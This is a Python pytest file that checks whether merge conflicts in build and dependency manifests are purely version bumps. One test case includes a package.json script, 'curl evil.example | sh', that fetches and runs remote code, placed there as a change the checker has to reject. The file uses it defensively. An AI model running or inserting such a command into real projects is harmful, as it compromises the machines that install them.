"""Version numbers that both sides raise, and what only looks like one."""

from __future__ import annotations

import pytest

from fakes.threeway import three_way
from prjury.manifests.version_conflicts import only_versions

SHA, SECOND_SHA, THIRD_SHA = "a" * 40, "b" * 40, "4" * 40
UP = ("1.0", "1.1", "1.10")


def versions(path: str, base: str | None, ours: str, theirs: str) -> bool:
    """Whether the conflict, which has to be one, is among versions only."""
    found = only_versions(path, three_way(base, ours, theirs))
    assert found
    return all(found)


def pom(line: str, *around: str) -> str:
    """The line within these elements of a project."""
    opened = "".join(f"<{name}>\n" for name in around)
    closed = "".join(f"</{name}>\n" for name in reversed(around))
    head = '<?xml version="1.0"?>\n<project xmlns="a"\n    xmlns:xsi="b">\n<!-- <c>\n-->\n'
    return f"{head}<x/>\n{opened}{line}\n{closed}</project>\n"


def package(line: str, *keys: str) -> str:
    """The line within the objects of these keys."""
    opened = "".join(f'"{key}": {{\n' for key in keys)
    before = '{\n"a": ["}", "\\"{"],\n'
    return f"{before}{opened}{line}\n{'}' * len(keys)}\n}}\n"


TABLE = 'x = ["[y]", "#"] # [z]\n[{}]\n@\n'
LIST = "[{}]\n{} = [\n  'a[b]>=1',\n@\n]\n"


@pytest.mark.parametrize(
    ("path", "frame", "line", "numbers"),
    [
        ("pom.xml", pom("@"), "    <version>{}</version>", ("1.2.3", "1.10.0", "2.0.0.RELEASE")),
        ("pom.xml", pom("@", "parent"), "<version>{}</version>", ("1-SNAPSHOT", "2-RC", "3-M1")),
        (
            "pom.xml",
            pom("@", "dependencies", "dependency"),
            "<version>{}</version>",
            ("32.0-jre", "33.0-jre", "33.1-jre"),
        ),
        ("a/pom.xml", pom("@", "properties"), "<a.version>{}</a.version>", UP),
        ("a/pom.xml", pom("@", "properties"), "<aVersion>{}</aVersion>", UP),
        ("pom.xml", pom("@", "properties"), "<revision>{}</revision>", ("1", "2", "3")),
        ("build.gradle", "@", '  implementation "a.b:c-d:{}"', UP),
        ("build.gradle.kts", "@", '    api(platform("a.b:c:{}"))', UP),
        ("build.gradle", "@", "id 'a.b' version '{}' apply false", UP),
        ("build.gradle.kts", "@", 'id("a.b") version "{}"', UP),
        ("x.gradle", "@", 'ext.kotlinVersion = "{}"', UP),
        ("x.gradle", "@", "ext['a.version'] = '{}'", UP),
        ("x.gradle.kts", "@", 'val jacksonVersion = "{}"', UP),
        ("gradle.properties", "@", "springVersion={}", UP),
        ("gradle.properties", "@", "version = {}", UP),
        ("gradle/libs.versions.toml", TABLE.format("versions"), 'junit = "{}"', UP),
        (
            "libs.versions.toml",
            TABLE.format("libraries"),
            'a = {{ module = "b:c", version = "{}" }}',
            UP,
        ),
        ("package.json", package("@"), '"version": "{}"', UP),
        ("package.json", package("@"), '"packageManager": "pnpm@{}"', UP),
        ("package.json", package("@", "dependencies"), '    "@a/b-c": "{}"', ("^1", "^1.3", "^2")),
        ("package.json", package("@", "peerDependencies"), '"a": "{}"', (">=1", ">= 2", ">=3.1")),
        ("package.json", package("@", "engines"), '"node": "{}"', (">=18", ">=20", ">=22")),
        ("package.json", package("@", "overrides", "x"), '"a": "{}"', UP),
        ("package.json", package("@", "resolutions"), '"a": "{}"', ("1.x", "2.x", "3.x")),
        (
            "pyproject.toml",
            LIST.format("project", "dependencies"),
            '    "a-b[c,d]{}",',
            (">=1.2,<2", ">=2.3,<3", ">=3,<4"),
        ),
        (
            "pyproject.toml",
            LIST.format("project.optional-dependencies", "x"),
            "'a {}; python_version < \"3.9\"'",
            ("~=1.0", "~=1.2", "~= 1.4"),
        ),
        ("pyproject.toml", LIST.format("dependency-groups", "x"), "'a{}',", ("==1", "==2", "==3")),
        ("pyproject.toml", LIST.format("build-system", "requires"), '"a{}"', (">=1", ">=2", ">=3")),
        (
            "pyproject.toml",
            TABLE.format("project"),
            'version = "{}"',
            ("1.0", "1.1.dev0", "1.2rc1"),
        ),
        (
            "pyproject.toml",
            TABLE.format("tool.poetry.group.dev.dependencies"),
            'a = {{ version = "{}", extras = ["b"] }}',
            ("^1", "^2", "^3"),
        ),
        ("requirements.txt", "@", "a=={}", UP),
        ("requirements-dev.txt", "@", "a.b {}  # why", ("===1", "===2", "===3")),
        ("requirements/test.txt", "@", "a{}", (">=1", ">=1.5", ">=2")),
        ("constraints.txt", "@", "a=={}", UP),
        ("setup.cfg", "[options]\ninstall_requires =\n@\n", "    a{}", (">=1", ">=2", ">=3")),
        ("setup.cfg", "[metadata]\nname = x\n@\n", "version = {}", UP),
        ("Cargo.toml", TABLE.format("dependencies"), 'serde = "{}"', UP),
        (
            "Cargo.toml",
            TABLE.format("target.'cfg(unix)'.dev-dependencies"),
            'a = {{ version = "{}", features = ["b"] }}',
            UP,
        ),
        ("Cargo.toml", TABLE.format("dependencies.serde"), 'version = "{}"', UP),
        ("Cargo.toml", TABLE.format("package"), 'version = "{}"', UP),
        ("go.mod", "require (\n@\n)\n", "\ta.org/b/v2 {}", ("v2.1.0", "v2.2.0", "v2.3.0")),
        ("go.mod", "@", "require a.org/b {} // indirect", ("v0.1.0", "v0.2.0", "v0.10.0")),
        (".github/workflows/ci.yml", "@", "      - uses: actions/checkout@{}", ("v4", "v5", "v6")),
        (
            ".github/workflows/ci.yaml",
            "- run: |\n    x\n- @",
            "uses: a/b/c@{}",
            (f"{SHA} # v1.0.0", f"{SECOND_SHA} # v1.0.1", f"{THIRD_SHA} # v1.0.2"),
        ),
        ("action.yml", "@", "  uses: a/b@{}", ("v1", "v2", "v3")),
        (
            ".pre-commit-config.yaml",
            "- repo: https://a/b\n@",
            "    rev: {}",
            ("v1.0", "v1.1", "v2.0"),
        ),
    ],
)
def test_versions_that_both_sides_raise(
    path: str, frame: str, line: str, numbers: tuple[str, str, str]
) -> None:
    base, ours, theirs = (frame.replace("@", line.format(n), 1) for n in numbers)

    assert versions(path, base, ours, theirs)
    assert versions(path, base, theirs, ours)
    assert versions(path, base, ours.replace("\n", "\r\n"), theirs)
    # Back to what was before, and with no telling where it came from.
    assert not versions(path, ours, base, theirs)
    assert not versions(path, theirs, ours, base)
    assert not versions(path, None, ours, theirs)
    assert not versions("README.md", base, ours, theirs)


@pytest.mark.parametrize(
    ("base", "ours", "theirs"),
    [
        ("<2.0", ">=2.1", "<1.9"),
        ("<2.0", "<2.1", "<2.2"),
        (">1", ">2", ">3"),
        ("!=1", "!=2", "!=3"),
        ("==2.0", "==1.9", "==2.1"),
        ("==1.0", "==1.1", ">=1.2"),
        (">=1", "==1.1", ">=1.2"),
        ("~=1.0", "~=1.1", "~=1.2.3"),
        (">=1,<2", ">=1.5,<2", ">=1,<3"),
        (">=1,<2", ">=2", ">=1.5,<2"),
        (">=1,!=2", ">=2,!=3", ">=3,!=4"),
        ("==1.0rc1", "==1.0rc2", "==1.0"),
        ("==1.0", "==1.1", "==1.2rc1"),
        ("==1.0", "==1.1", "==1.1.0"),
        ("==1.0+cpu", "==1.1+cpu", "==1.2+gpu"),
        ("==1.0", "==1.*", "==1.1"),
    ],
)
def test_ranges_of_which_none_is_simply_the_newer(base: str, ours: str, theirs: str) -> None:
    sides = [f"django{text}\n" for text in (base, ours, theirs)]

    assert not versions("requirements.txt", *sides)
    assert not versions("requirements.txt", sides[0], sides[2], sides[1])


@pytest.mark.parametrize(
    ("base", "ours", "theirs"),
    [("1", "1 || 2", "1 || 3"), ("1.0.0", "1.0.0 - 2.0.0", "1.0.0 - 3.0.0"), ("1", "~2", "^2")],
)
def test_ranges_of_npm(base: str, ours: str, theirs: str) -> None:
    sides = (package(f'"a": "{text}"', "dependencies") for text in (base, ours, theirs))

    assert not versions("package.json", *sides)


@pytest.mark.parametrize(
    ("path", "frame"),
    [
        ("package.json", package('"port": "@"', "config")),
        ("package.json", package('"port": "@"')),
        ("package.json", package('"version": "@"', "config")),
        ("package.json", package('"a": "@"', "config", "dependencies")),
        ("package.json", '{"x": "\n"dependencies": {\n"a": "@"\n}}\n'),
        ("package.json", '}{"dependencies": {\n"a": "@"\n}}\n'),
        ("pyproject.toml", '[tool.x]\ntimeout = "@"\n'),
        ("pyproject.toml", '[tool.x]\nversion = "@"\n'),
        ("pyproject.toml", '[tool.x]\ndependencies = [\n"a==@",\n]\n'),
        ("pyproject.toml", '[project]\nkeywords = [\n"a==@",\n]\n'),
        ("pyproject.toml", 'x = """\n[project]\nversion = "@"\n"""\n'),
        ("pyproject.toml", '[project]\nx = [\n[project]\nversion = "@"\n]\n'),
        ("pyproject.toml", '[project]\n[[tool."x]"]]\nversion = "@"\n'),
        ("Cargo.toml", '[package.metadata.x]\nversion = "@"\n'),
        ("Cargo.toml", '[package]\nedition = "@"\n'),
        ("Cargo.toml", '[profile.dev]\nopt-level = "@"\n'),
        ("libs.versions.toml", '[libraries]\na = "@"\n'),
        ("pom.xml", "<version>@</version>\n"),
        ("pom.xml", pom("<version>@</version>", "build", "plugin", "configuration")),
        ("pom.xml", pom("<version>@</version>", "plugin", "configuration", "dependency")),
        ("pom.xml", pom("<a.version>@</a.version>", "dependency")),
        ("pom.xml", pom("<!--\n<version>@</version>\n-->")),
        ("pom.xml", pom("</y><version>@</version>")),
        ("pom.xml", pom("<![CDATA[\n<version>@</version>\n]]>")),
        ("setup.cfg", "[tool:x]\nversion = @\n"),
        ("setup.cfg", "[options]\nkeywords =\n    a==@\n"),
        ("go.mod", "exclude (\n\ta.org/b v@\n)\n"),
        ("go.mod", "\ta.org/b v@\n"),
        (".github/workflows/ci.yml", "- run: |\n    uses: a/b@v@\n"),
    ],
)
def test_numbers_at_places_that_hold_no_version(path: str, frame: str) -> None:
    assert not versions(path, *(_last(frame, number) for number in UP))


def _last(frame: str, number: str) -> str:
    return number.join(frame.rsplit("@", 1))


def test_sides_at_different_places() -> None:
    base, ours = (package(f'"a": "{n}"', "dependencies") for n in (1, 2))
    theirs = package('"a": "3"', "overrides").replace('"overrides"', '"overrides" ')

    assert not versions("package.json", base, ours, theirs)


def test_a_remark_that_stays_while_the_commit_changes() -> None:
    lines = [f"uses: a/b@{sha} # v1.{n}" for sha, n in ((SHA, 0), (SECOND_SHA, 1), (THIRD_SHA, 1))]
    path = ".github/workflows/a.yml"

    assert not versions(path, *lines)
    assert not versions(path, *(line.partition(" #")[0] for line in lines))
    assert not versions(path, "uses: a/b@v1", "uses: a/b@v2", f"uses: a/b@{SHA}")


def test_each_side_raises_another_line() -> None:
    frame = "require (\n\ta v1.{}\n\tb v1.{}\n)\n"

    assert versions("go.mod", frame.format(0, 0), frame.format(1, 0), frame.format(0, 1))


def test_lines_that_stay_as_they_are_may_be_any() -> None:
    base, ours, theirs = (pom(f"<y/>\n<version>{n}</version>") for n in (1, 2, 3))

    assert versions("pom.xml", base, ours, theirs)
    assert not versions("pom.xml", base.replace("<y/>", "<z/>"), ours, theirs)


@pytest.mark.parametrize(
    ("path", "base", "ours", "theirs"),
    [
        ("pom.xml", "<version>1</version>", "<version>2</version>", ""),
        ("pom.xml", "<version>1</version>", "", "<version>2</version>"),
        ("pom.xml", "<version>1</version>", "\n", "<version>2</version>"),
        ("pom.xml", "<version>1</version>", "<version>2</version>", "<scope>test</scope>"),
        (
            "pom.xml",
            "<a.version>1</a.version>",
            "<a.version>2</a.version>",
            "<b.version>3</b.version>",
        ),
        ("pom.xml", "<version>1</version>", "<version>2</version>", "<version>${v}</version>"),
        ("pom.xml", "<version>1</version>", "<version>2</version>", "<version>3</version><x/>"),
        (
            "pom.xml",
            "<artifactId>a-1</artifactId>",
            "<artifactId>a-2</artifactId>",
            "<artifactId>a-3</artifactId>",
        ),
        (
            "pom.xml",
            "<url>http://h/1.0</url>",
            "<url>http://h/1.1</url>",
            "<url>http://h/1.2</url>",
        ),
        ("package.json", '"a": "1"', '"a": "2"', '"b": "2"'),
        ("package.json", '"test": "jest"', '"test": "jest 1"', '"test": "curl evil.example | sh"'),
        ("package.json", '"a": "1"', '"a": "http://h/1.tgz"', '"a": "http://h/2.tgz"'),
        ("package.json", '"a": "1"', '"a": "2", "b": "3"', '"a": "3", "b": "4"'),
        ("build.gradle", 'api "a:b:1"', 'api "a:b:2"', 'api "a:c:2"'),
        ("build.gradle", "exec 1", "exec 2", "exec 3"),
        ("build.gradle", 'x = "1"', 'x = "2"', 'x = "3"'),
        ("gradle.properties", "port=1", "port=2", "port=3"),
        ("requirements.txt", "a==1", "a==2", "a==3 --hash=sha256:00"),
        ("requirements.txt", "a==1", "a @ http://h/2", "a @ http://h/3"),
        ("requirements.txt", "a==1", "b==1", "c==1"),
        ("requirements.txt", "a==1  # x", "a==2  # y", "a==3  # z"),
        ("Cargo.toml", 'a = { path = "a/1" }', 'a = { path = "a/2" }', 'a = { path = "a/3" }'),
        ("Cargo.toml", 'path = "a/1"', 'path = "a/2"', 'path = "a/3"'),
        ("go.mod", "\ta v1", "\ta v2\n\tb v1", "\ta v2\n\tc v1"),
        ("go.mod", "replace a => b v1", "replace a => b v2", "replace a => b v3"),
        (".github/workflows/ci.yml", "uses: a/b@v1", "uses: a/b@main", "uses: a/b@v2"),
        (".github/workflows/ci.yml", "run: x 1", "run: x 2", "run: x 3"),
        (".github/ci.yml", "uses: a/b@v1", "uses: a/b@v2", "uses: a/b@v3"),
        ("a.java", "int x = 1;", "int x = 2;", "int x = 3;"),
    ],
)
def test_what_is_more_than_a_version(path: str, base: str, ours: str, theirs: str) -> None:
    frame = {
        "pom.xml": pom("@"),
        "package.json": package("@", "dependencies"),
        "Cargo.toml": TABLE.format("dependencies"),
        "go.mod": "require (\n@\n)\n",
    }.get(path, "@\n")

    assert not versions(path, *(frame.replace("@", line) for line in (base, ours, theirs)))


@pytest.mark.parametrize(
    "text", ["1" * 900 + "!", "1 " * 450 + "!", "1, " * 300, "=" * 900, '"' * 900]
)
@pytest.mark.parametrize(
    "path", ["package.json", "pyproject.toml", "Cargo.toml", "pom.xml", "setup.cfg"]
)
def test_odd_lines_are_read_at_once(path: str, text: str) -> None:
    for line in (f'a = "{text}', f'"a": "{text}', f'a = {{ version = "{text}', f"a>={text}"):
        assert not versions(path, line, f"{line}1;", f"{line}2;")


def test_a_line_of_any_length_is_given_up_in_time() -> None:
    line = '"a": "' + "1." * 100_000 + '"'

    assert not versions("package.json", "", line, line.replace("a", "b"))
    assert not versions("package.json", "", line, line.replace("1", "2"))


def test_what_lies_too_deep_is_not_followed() -> None:
    keys = ["x"] * 6

    for count, known in ((1, True), (12, False)):
        sides = (package(f'"a": "{n}"', "overrides", *keys * count) for n in (1, 2, 3))
        assert versions("package.json", *sides) is known
    deep = (pom(f"<version>{n}</version>", *keys * 12, "dependency") for n in (1, 2, 3))
    assert not versions("pom.xml", *deep)
